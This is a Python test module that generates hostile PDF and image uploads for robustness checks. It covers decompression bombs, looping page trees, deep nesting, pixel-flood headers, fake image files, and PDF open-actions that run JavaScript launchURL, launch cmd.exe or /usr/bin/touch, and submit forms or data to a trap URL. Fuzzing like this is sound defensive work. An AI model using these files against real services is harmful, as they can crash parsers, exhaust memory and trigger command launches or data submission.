"""PDF and images: streams that swell, trees that loop, actions, floods of pixels."""

import io
import struct
import zlib
from random import Random

from PIL import Image

from . import Trap, Upload, family


def pdf(objects: dict[int, bytes], trailer: bytes = b"/Root 1 0 R") -> bytes:
    out, places = b"%PDF-1.7\n", {}
    for number, body in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % places.get(n, 0) for n in range(1, max(objects) + 1))
    size = max(objects) + 1
    return (
        out
        + b"xref\n0 %d\n0000000000 65535 f \n%strailer\n<</Size %d %s>>\nstartxref\n%d\n%%%%EOF"
        % (size, table, size, trailer, len(out))
    )


def stream(body: bytes, more: bytes = b"") -> bytes:
    return b"<</Length %d %s>>stream\n%s\nendstream" % (len(body), more, body)


def one_page(
    content: bytes, more: bytes = b"", page: bytes = b"", extra: dict[int, bytes] | None = None
) -> bytes:
    return pdf(
        {1: b"<</Type/Catalog/Pages 2 0 R %s>>" % more, 2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
         3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 300]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>> %s>>" % page,
         4: content, 5: b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>", **(extra or {})}
    )  # fmt: skip


WORDS = b"BT /F 12 Tf 20 200 Td (Some honest words here) Tj ET"


@family
def pdf_cut_short(trap: Trap, random: Random) -> Upload:
    data = one_page(stream(WORDS))
    return "半截.pdf", data[: random.randrange(5, len(data))]


@family
def pdf_with_flipped_bits(trap: Trap, random: Random) -> Upload:
    data = bytearray(one_page(stream(WORDS)))
    for _ in range(random.randint(1, 60)):
        data[random.randrange(5, len(data))] ^= 1 << random.randrange(8)
    return "翻转.pdf", bytes(data)


@family
def pdf_that_swells(trap: Trap, random: Random) -> Upload:
    body = zlib.compress(WORDS + b" " * (random.randint(20, 200) << 20), 1)
    filters = b"/Filter/FlateDecode"
    for _ in range(random.randint(0, 2)):
        body, filters = (
            zlib.compress(body),
            b"/Filter[/FlateDecode%s]"
            % filters.split(b"/Filter")[-1].strip(b"[]").join((b"", b"")),
        )
    return "膨胀.pdf", one_page(stream(body, filters))


@family
def pdf_that_loops(trap: Trap, random: Random) -> Upload:
    shape = random.choice(
        ({2: b"<</Type/Pages/Kids[2 0 R]/Count 1>>"}, {2: b"<</Type/Pages/Kids[3 0 R 3 0 R]/Count 99999999/Parent 2 0 R>>"},
         {3: b"<</Type/Page/Parent 3 0 R/Contents[4 0 R 4 0 R]>>", 4: b"4 0 R"}, {2: b"<</Type/Pages/Count 200000000>>"},
         {6: b"<</Type/Pages/Kids[2 0 R]>>", 2: b"<</Type/Pages/Kids[6 0 R]/Count 5>>"})
    )  # fmt: skip
    return "循环.pdf", one_page(stream(WORDS), extra=shape)


@family
def pdf_with_actions(trap: Trap, random: Random) -> Upload:
    action = random.choice(
        (b"<</S/JavaScript/JS(app.launchURL('%s');this.exportDataObject({cName:'x'}))>>" % trap.url.encode(),
         b"<</S/Launch/F(/usr/bin/touch)/Win<</F(cmd.exe)/P(/c x)>>>>", b"<</S/URI/URI(%s)>>" % trap.url.encode(),
         b"<</S/SubmitForm/F(%s)>>" % trap.url.encode(), b"<</S/GoToR/F(%s)/D[0/Fit]>>" % str(trap.secret).encode(),
         b"<</S/ImportData/F(%s)>>" % str(trap.secret).encode())
    )  # fmt: skip
    return "动作.pdf", one_page(
        stream(WORDS), more=b"/OpenAction %s" % action, page=b"/AA<</O %s>>" % action
    )


@family
def pdf_with_depth(trap: Trap, random: Random) -> Upload:
    deep = random.randint(500, 400_000)
    body = random.choice(
        (
            b"[" * deep,
            b"<</A" * deep,
            b"(" * deep,
            b"q " * deep + WORDS,
            b"BT " * deep,
            b"/F Do " * deep,
        )
    )
    return "深.pdf", one_page(
        stream(body), more=b"/Deep " + body[:deep] if random.random() < 0.5 else b""
    )


@family
def pdf_of_vast_pages(trap: Trap, random: Random) -> Upload:
    side = random.choice((14_400, 10**7, 10**12, 2**31 - 1, -99999, 0))
    picture = b"<</Type/XObject/Subtype/Image/Width 99999/Height 99999/BitsPerComponent 8/ColorSpace/DeviceRGB/Length 0>>stream\n\nendstream"
    page = b"/MediaBox[0 0 %d %d]/UserUnit %d" % (side, side, random.choice((1, 10**6)))
    return "巨幅.pdf", one_page(stream(WORDS), page=page, extra={6: picture})


@family
def pdf_of_many_pages(trap: Trap, random: Random) -> Upload:
    count = random.randint(2_001, 30_000)
    return "厚.pdf", one_page(
        stream(WORDS), extra={2: b"<</Type/Pages/Kids[%s]/Count %d>>" % (b"3 0 R " * count, count)}
    )


@family
def flood_of_pixels(trap: Trap, random: Random) -> Upload:
    wide, high = random.randint(9_000, 60_000), random.randint(7_000, 60_000)
    kind = random.choice(("png", "bmp", "jpg", "tif", "webp"))
    return f"洪水.{kind}", _flood(kind, wide, high)


def _flood(kind: str, wide: int, high: int) -> bytes:
    if kind == "png":
        head = b"IHDR" + struct.pack(">IIBBBBB", wide, high, 8, 2, 0, 0, 0)
        return (
            b"\x89PNG\r\n\x1a\n"
            + struct.pack(">I", 13)
            + head
            + struct.pack(">I", zlib.crc32(head))
            + b"\0\0\0\0IDAT"
        )
    if kind == "bmp":
        return b"BM" + struct.pack(
            "<IHHIIiiHHIIiiII", 999, 0, 0, 54, 40, wide, high, 1, 24, 0, 0, 0, 0, 0, 0
        )
    if kind == "jpg":
        frame = (
            b"\xff\xc0"
            + struct.pack(">HBHHB", 17, 8, high, wide, 3)
            + b"\x01\x22\0\x02\x11\1\x03\x11\1"
        )
        return b"\xff\xd8\xff\xe0\0\x10JFIF\0\1\1\0\0\1\0\1\0\0" + frame + b"\xff\xda" + bytes(50)
    if kind == "tif":
        tags = (
            (256, wide),
            (257, high),
            (258, 8),
            (259, 1),
            (262, 1),
            (273, 8),
            (277, 1),
            (278, high),
            (279, wide),
        )
        fields = b"".join(struct.pack("<HHII", tag, 4, 1, value) for tag, value in tags)
        return b"II*\0\x08\0\0\0" + struct.pack("<H", len(tags)) + fields + b"\0\0\0\0"
    body = (
        b"VP8X\x0a\0\0\0\0\0\0\0"
        + struct.pack("<I", wide - 1)[:3]
        + struct.pack("<I", high - 1)[:3]
    )
    return b"RIFF" + struct.pack("<I", len(body) + 4) + b"WEBP" + body


@family
def image_that_is_none(trap: Trap, random: Random) -> Upload:
    magic, ending = random.choice(
        (
            (b"\x89PNG\r\n\x1a\n", "png"),
            (b"\xff\xd8\xff\xe0", "jpg"),
            (b"II*\0", "tif"),
            (b"MM\0*", "tif"),
            (b"RIFF\xff\xff\xff\x7fWEBP", "webp"),
            (b"BM\0\0\0\0\0\0\0\0", "bmp"),
        )
    )
    return f"假图.{ending}", magic + random.randbytes(random.randint(0, 4000))


@family
def image_with_a_swelling_note(trap: Trap, random: Random) -> Upload:
    held = io.BytesIO()
    Image.new("L", (2, 2)).save(held, "PNG")
    bomb = zlib.compress(b"x" * (random.randint(2, 100) << 20), 1)
    body = random.choice((b"zTXtk\0\0" + bomb, b"iCCPk\0\0" + bomb, b"iTXtk\0\1\0\0\0" + bomb))
    chunk = struct.pack(">I", len(body) - 4) + body + struct.pack(">I", zlib.crc32(body))
    data = held.getvalue()
    return "注释.png", data[:33] + chunk + data[33:40]  # cut: what is sound would go on to be read
